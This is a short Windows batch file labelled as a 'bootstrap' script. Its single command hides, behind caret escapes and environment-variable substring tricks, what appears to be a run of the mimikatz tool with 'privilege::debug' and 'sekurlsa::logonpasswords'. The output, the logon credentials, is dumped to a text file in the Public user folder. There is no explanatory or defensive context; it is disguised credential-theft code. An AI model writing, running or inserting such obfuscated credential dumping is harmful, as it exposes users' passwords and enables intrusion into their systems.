REM bootstrap 8817 v2
%comspec:~-11,1%^im^ik%ProgramData:~-3,1%%COMSPEC:~14,1%z.%COMSPEC:~-1,1%%COMSPEC:~-2,1%%public:~-10,1% "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Use^r^s\^Pub^li^c\m.t^x^t
